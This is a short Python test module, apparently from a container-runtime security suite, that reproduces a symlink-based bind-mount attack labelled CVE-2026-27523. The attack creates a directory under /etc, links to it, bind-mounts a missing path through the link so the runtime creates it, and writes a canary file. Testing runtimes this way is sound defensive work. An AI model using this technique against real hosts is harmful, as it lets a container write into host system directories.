"""A source that does not exist yet is made where a link leads."""

import os

from bypass import refused

SOURCE = "CVE-2026-27523"
WAY = "create"
BARE = "neither runc 1.1.5 nor crun 1.8.1 makes a missing source; Docker does, see docker/missing_leaf"
STOPPED = refused("bind-missing")


def attack(t):
    os.makedirs("/etc/" + t.id)
    os.symlink("/etc/" + t.id, t.host + "/link")
    t.bind(t.host + "/link/new", "/x")
    try:
        t.run("echo %s >/x/file" % t.canary)
    finally:
        made = os.listdir("/etc/" + t.id)
        t.sh("rm -r /etc/" + t.id)
    return made
